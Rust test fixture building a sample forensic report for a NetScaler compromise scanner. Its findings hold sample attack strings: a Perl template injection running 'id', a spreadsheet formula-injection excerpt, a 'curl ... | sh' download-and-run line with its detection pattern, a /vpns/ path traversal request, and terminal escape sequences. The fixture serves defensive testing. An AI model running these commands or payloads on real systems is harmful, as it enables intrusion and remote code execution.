//! A hand-built report that exercises every awkward case the renderers must handle, for the
//! tests of every renderer.

use super::Report;

use crate::model::{
    Bytes, Coverage, EvPath, Finding, Gap, GapCause, REPORT_SCHEMA, RuleHits, Severity,
    SourceCoverage, SourceFile, TargetInfo, Timestamp, ToolInfo, Verdict, WindowCheck,
    WindowStatus, base64,
};

/// A time of the sample, written as the report writes it.
fn t(rfc3339: &str) -> Timestamp {
    Timestamp::parse_rfc3339(rfc3339).expect("an RFC 3339 time")
}

/// The sample: every part below, a collapsed finding, a rule that did not fire and a gap that
/// blocks a clean verdict.
pub(crate) fn sample_report() -> Report {
    Report {
        schema: REPORT_SCHEMA.into(),
        tool: ToolInfo {
            name: "sporen".into(),
            version: "0.1.0".into(),
        },
        target: TargetInfo {
            path: "/evidence/ns1".into(),
            input: "directory".into(),
            detail: None,
            inputs: Vec::new(),
        },
        verdict: Verdict::Compromised,
        posture: posture(),
        reasons: vec![
            "2 findings of critical or high severity.".into(),
            "The required source `ns-log` could not be read completely.".into(),
        ],
        rules_sha256: "d".repeat(64),
        coverage: coverage(),
        flagged_files: vec![crate::model::FlaggedFile {
            path: EvPath::new("var/tmp/bash"),
            path_base64: None,
            size: 1_234_567,
            mode: "-rwsr-xr-x".into(),
            uid: 0,
            gid: 0,
            inode: Some(4242),
            mtime: t("2023-07-20T10:00:00Z"),
            btime: None,
            atime: Some(t("2023-07-21T08:00:00Z")),
            ctime: Some(t("2023-07-20T10:00:05Z")),
            sha256: None,
            rules: vec!["cve-2023-3519.setuid-outside-allowlist".into()],
        }],
        windows: vec![
            WindowCheck {
                pack: "cve-2019-19781".into(),
                title: "CVE-2019-19781 exploitation".into(),
                from: t("2020-01-10T00:00:00Z"),
                until: None,
                status: WindowStatus::Covered,
                detail: "access-log, shell-history reach back to 2020-01-10 or earlier".into(),
                examiner: Vec::new(),
                holes: Vec::new(),
                appliance_off: Vec::new(),
            },
            WindowCheck {
                pack: "cve-2023-4966".into(),
                title: "CVE-2023-4966 exploitation".into(),
                from: t("2023-10-10T00:00:00Z"),
                until: None,
                status: WindowStatus::NotRelevant,
                detail: "the newest dated evidence (2020-01-27) predates the window".into(),
                examiner: vec!["end set by the examiner to 2020-01-24 (--until)".into()],
                holes: Vec::new(),
                appliance_off: Vec::new(),
            },
        ],
        findings: findings(),
        rules: rules(),
        arguments: vec!["sporen".into(), "scan".into(), "/evidence/ns1".into()],
    }
}

/// Findings: a path that is not UTF-8 with a newline, an ANSI escape and a newline in an
/// excerpt, a bidi override, a formula-looking excerpt, a collapsed finding.
fn findings() -> Vec<Finding> {
    let bad_path = EvPath::new(&b"netscaler/portal/templates/evil\xff\n.xml"[..]);
    let bad_b64 = base64(bad_path.as_bytes());
    vec![
        Finding {
            rule: "cve-2019-19781.template-directive".into(),
            pack: "cve-2019-19781".into(),
            severity: Severity::Critical,
            title: "Portal template with a Perl template directive".into(),
            path: bad_path,
            path_base64: Some(bad_b64),
            line: Some(1),
            excerpt: Some(Bytes(
                b"[% template.new({'BLOCK'=>'print `id`'}) %]\x1b[31mred\x1b[0m\nnext".to_vec(),
            )),
            count: 1,
            last_line: None,
            last_excerpt: None,
            reason: "content matches `template.new`".into(),
            sha256: Some("a".repeat(64)),
            mtime: Some(t("2020-01-11T23:41:07Z")),
            time: Some(t("2020-01-11T23:41:07Z")),
            last_time: Some(t("2020-01-12T01:02:03Z")),
            time_inferred: true,
        },
        Finding {
            rule: "cve-2023-3519.webshell".into(),
            pack: "cve-2023-3519".into(),
            severity: Severity::High,
            title: "PHP web shell under the logon themes".into(),
            path: EvPath::new("var/netscaler/logon/themes/a\u{202e}gnp.php"),
            path_base64: None,
            line: Some(3),
            excerpt: Some(Bytes(b"=cmd|' /C calc'!A0,\"x\"".to_vec())),
            count: 1,
            last_line: None,
            last_excerpt: None,
            reason: "content matches `eval(base64_decode`".into(),
            sha256: Some("b".repeat(64)),
            mtime: Some(t("2023-07-20T10:00:00Z")),
            time: None,
            last_time: None,
            time_inferred: false,
        },
        Finding {
            rule: "history.curl-pipe-shell".into(),
            pack: "generic".into(),
            severity: Severity::Medium,
            title: "Download piped into a shell".into(),
            path: EvPath::new("root/.bash_history"),
            path_base64: None,
            line: Some(10),
            excerpt: Some(Bytes(b"curl http://198.51.100.7/x | sh".to_vec())),
            count: 5,
            last_line: Some(42),
            last_excerpt: Some(Bytes(b"-curl http://198.51.100.7/y | sh\t#".to_vec())),
            reason: "line matches `curl .* \\| *sh`".into(),
            sha256: Some("c".repeat(64)),
            mtime: None,
            time: None,
            last_time: None,
            time_inferred: false,
        },
        Finding {
            rule: "appliance.version".into(),
            pack: "context".into(),
            severity: Severity::Info,
            title: "Firmware version".into(),
            path: EvPath::new("flash/.version"),
            path_base64: None,
            line: None,
            excerpt: None,
            count: 1,
            last_line: None,
            last_excerpt: None,
            reason: "file exists".into(),
            sha256: None,
            mtime: None,
            time: None,
            last_time: None,
            time_inferred: false,
        },
    ]
}

/// Rule summaries, two of which did not fire.
fn rules() -> Vec<RuleHits> {
    let rule = |id: &str, pack: &str, severity, title: &str, findings, hits| RuleHits {
        id: id.into(),
        pack: pack.into(),
        severity,
        title: title.into(),
        findings,
        hits,
        first_seen: None,
        last_seen: None,
    };
    vec![
        rule(
            "appliance.version",
            "context",
            Severity::Info,
            "Firmware version",
            1,
            1,
        ),
        rule(
            "cve-2019-19781.template-directive",
            "cve-2019-19781",
            Severity::Critical,
            "Portal template with a Perl template directive",
            1,
            1,
        ),
        rule(
            "cve-2023-3519.webshell",
            "cve-2023-3519",
            Severity::High,
            "PHP web shell under the logon themes",
            1,
            1,
        ),
        rule(
            "cve-2023-4966.session-reuse",
            "cve-2023-4966",
            Severity::High,
            "Session token reused from another address",
            0,
            0,
        ),
        rule(
            "history.curl-pipe-shell",
            "generic",
            Severity::Medium,
            "Download piped into a shell",
            1,
            5,
        ),
        rule(
            "history.failed-login",
            "generic",
            Severity::Low,
            "Failed login attempt",
            0,
            0,
        ),
    ]
}

/// Coverage with sources, a hole, a year inferred, and gaps (one blocking a clean verdict).
fn coverage() -> Coverage {
    Coverage {
        looks_like_appliance: true,
        notes: vec!["access times of the 250 folders listed may have been updated".into()],
        entries_seen: 1300,
        files_seen: 1000,
        files_read: 980,
        bytes_read: 12_900_000,
        dirs_seen: 250,
        symlinks_seen: 40,
        special_files_skipped: 1,
        sources: sources(),
        gaps: vec![
            Gap {
                path: EvPath::new(&b"tmp/\x1b]0;pwned\x07\xfe"[..]),
                path_base64: None,
                cause: GapCause::SpecialFile,
                detail: "FIFO\r\nnot opened".into(),
                blocks_clean: false,
            },
            Gap {
                path: EvPath::new("var/log/httpaccess.log.0.gz"),
                path_base64: None,
                cause: GapCause::CorruptGzip,
                detail: "unexpected end of file".into(),
                blocks_clean: false,
            },
            Gap {
                path: EvPath::new("var/log/ns.log"),
                path_base64: None,
                cause: GapCause::Unreadable,
                detail: "Permission denied (os error 13)".into(),
                blocks_clean: true,
            },
        ],
        ..Coverage::default()
    }
}

/// Sources: one with a missing rotation, one read in part with its year inferred, one empty.
fn sources() -> Vec<SourceCoverage> {
    vec![
        SourceCoverage {
            id: "access-log".into(),
            title: "Apache access log (httpaccess.log)".into(),
            required: true,
            from: Some(t("2020-01-05T00:00:01Z")),
            to: Some(t("2020-01-27T10:00:00Z")),
            year_inferred: false,
            silence_limits: vec![crate::model::SilenceLimit {
                log: EvPath::new("var/log/httpaccess.log"),
                usual_silence_seconds: 900,
                hole_after_seconds: 3 * 3600,
            }],
            time_gaps: vec![crate::model::TimeGap {
                from: Some(t("2020-01-08T00:00:00Z")),
                to: Some(t("2020-01-10T00:00:00Z")),
                kind: crate::model::TimeGapKind::MissingRotation,
                status: crate::model::TimeGapStatus::Hole,
                paths: vec![EvPath::new("var/log/httpaccess.log.1.gz")],
                detail: "httpaccess.log.1.gz is missing".into(),
            }],
            files: vec![
                SourceFile {
                    path: EvPath::new("var/log/httpaccess.log.0.gz"),
                    bytes: 1_250_000,
                    sha256: None,
                    from: Some(t("2020-01-05T00:00:01Z")),
                    to: Some(t("2020-01-08T00:00:00Z")),
                    year_inferred_from: None,
                },
                SourceFile {
                    path: EvPath::new("var/log/httpaccess.log"),
                    bytes: 1_250_000,
                    sha256: Some("00".repeat(32)),
                    from: Some(t("2020-01-10T00:00:00Z")),
                    to: Some(t("2020-01-27T10:00:00Z")),
                    year_inferred_from: None,
                },
            ],
            files_read: 1,
            bytes: 2_500_000,
        },
        SourceCoverage {
            id: "ns-log".into(),
            title: "NetScaler system log (ns.log)".into(),
            required: true,
            from: None,
            to: None,
            year_inferred: true,
            silence_limits: Vec::new(),
            time_gaps: vec![],
            files: vec![SourceFile {
                path: EvPath::new("var/log/ns.log"),
                bytes: 900,
                sha256: None,
                from: None,
                to: None,
                year_inferred_from: Some("the file's modification time".into()),
            }],
            files_read: 0,
            bytes: 900,
        },
        SourceCoverage {
            id: "bash-history".into(),
            title: "Shell history".into(),
            required: false,
            from: None,
            to: None,
            year_inferred: false,
            silence_limits: Vec::new(),
            time_gaps: vec![],
            files: vec![],
            files_read: 0,
            bytes: 0,
        },
    ]
}

/// A posture with a vulnerable, exposed CVE, the day the appliance left it, and a mitigation
/// that did not hold: attacker bytes in the configuration line, the mitigation's line and the
/// logged attempt.
fn posture() -> crate::model::Posture {
    use crate::model::{
        ConfigLine, CvePosture, CveStatus, Exposure, ExposureState, Held, LeftVulnerable,
        Mitigation, MitigationPart, Posture,
    };
    Posture {
        firmware: Some("13.0-47.24".into()),
        firmware_evidence: vec!["/flash/boot/loader.conf boots ns-13.0-47.24".into()],
        cves: vec![
            CvePosture {
                id: "CVE-2019-19781".into(),
                title: "Path traversal to the /vpns/ scripts".into(),
                advisory: "CTX267027, 2019-12-17".into(),
                status: CveStatus::Fixed,
                evidence: "13.0-47.24: at or above the first fixed build 13.0-47.24".into(),
                requires: "a virtual server that serves /vpns/".into(),
                exposure: None,
                left_vulnerable: Some(LeftVulnerable {
                    vulnerable_from: t("2019-10-14T07:40:00Z"),
                    vulnerable_build: "13.0-47.22".into(),
                    at: t("2020-01-25T10:31:40Z"),
                    build: "13.0-47.24".into(),
                    evidence: "kernel image /flash/ns-13.0-47.24.gz".into(),
                }),
            },
            CvePosture {
            id: "CVE-2023-4966".into(),
            title: "Sensitive information disclosure".into(),
            advisory: "CTX579459, 2023-10-10".into(),
            status: CveStatus::Vulnerable,
            evidence: "13.0-47.24: below the first fixed build 13.0-92.19".into(),
            requires: "Gateway or AAA virtual server".into(),
            exposure: Some(Exposure {
                state: ExposureState::Exposed,
                summary: "vulnerable build, exposed configuration".into(),
                lines: vec![ConfigLine {
                    what: "Gateway virtual server".into(),
                    path: "/flash/nsconfig/ns.conf".into(),
                    line: 21,
                    text: "add vpn vserver gw\u{1b}]0;pwned\u{7} SSL 192.0.2.20 443".into(),
                }],
                notes: Vec::new(),
            }),
            left_vulnerable: None,
        }],
        mitigations: vec![Mitigation {
            id: "CTX267679".into(),
            name: "responder policy refusing /vpns/ traversal".into(),
            cve: "CVE-2019-19781".into(),
            parts: vec![
                MitigationPart {
                    name: "responder feature enabled".into(),
                    present: Some(false),
                    line: None,
                    place: "/flash/nsconfig/ns.conf".into(),
                },
                MitigationPart {
                    name: "policy bound globally with -type REQ_OVERRIDE".into(),
                    present: Some(true),
                    line: Some("bind responder global ctx\u{1b}[2J 1 END -type REQ_OVERRIDE".into()),
                    place: "/flash/nsconfig/ns.conf:28".into(),
                },
            ],
            effective: Some(false),
            missing: vec!["responder feature enabled".into()],
            since: Some(t("2020-01-13T09:00:00Z")),
            since_source: Some("/flash/nsconfig/ns.conf.2".into()),
            held: Some(Held {
                held: false,
                summary: "from 2020-01-13 on, 2 attempts: 1 answered with something other than 403 after the mitigation date: it did not work".into(),
                attempts_after: 2,
                refused_after: 1,
                attempts_before: 0,
                examples: vec![Bytes(
                    b"203.0.113.9 - - [14/Jan/2020:01:00:00 +0000] \"POST /vpn/../vpns/portal/scripts/newbm.pl HTTP/1.1\" 200 143 \"\x1b[2J\xff\"".to_vec(),
                )],
            }),
            notes: Vec::new(),
        }],
        ..Posture::default()
    }
}
